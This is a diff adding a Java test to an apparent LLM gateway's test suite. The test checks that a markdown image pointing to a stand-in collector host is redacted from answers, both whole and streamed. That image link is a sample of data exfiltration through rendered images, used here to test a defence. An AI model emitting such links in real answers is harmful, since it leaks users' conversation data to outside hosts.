@@ -184,6 +184,21 @@ class MessagesGatewayTest {
         assertThat(c.line).contains("\"deployment\":").doesNotContain(PROMPT).doesNotContain(TestGateway.PROVIDER_KEY).doesNotContain("bst_");
     }
 
+    /** An Anthropic client's answer is guarded like any other: an image that would leave with the conversation is redacted. */
+    @ParameterizedTest
+    @ValueSource(strings = {"gpt", "claude", "gemini"})
+    void aRemoteImageInTheAnswerIsRedactedWholeAndStreamed(String model) throws Exception {
+        String prompt = "echo: done ![chart](https://collector.example.net/c.png?d=q3) bye";
+        String body = "{\"model\":\"" + model + "\",\"max_tokens\":60,\"messages\":[{\"role\":\"user\",\"content\":\"" + prompt + "\"}]";
+        Call whole = post(body + "}");
+        assertThat(whole.status).as(whole.body).isEqualTo(200);
+        assertThat(whole.json().at("/content/0/text").asText()).isEqualTo("You wrote: done [REMOTE_IMAGE] bye");
+        Call streamed = post(body + ",\"stream\":true}");
+        assertThat(streamed.status).as(streamed.body).isEqualTo(200);
+        assertThat(text(events(streamed.body))).isEqualTo("You wrote: done [REMOTE_IMAGE] bye");
+        assertThat(whole.body + streamed.body).doesNotContain("collector");
+    }
+
     @ParameterizedTest
     @ValueSource(strings = {"gpt", "claude", "gemini"})
     void aStreamedAnswerFromEveryProviderIsAnthropicsEventSequence(String model) throws Exception {
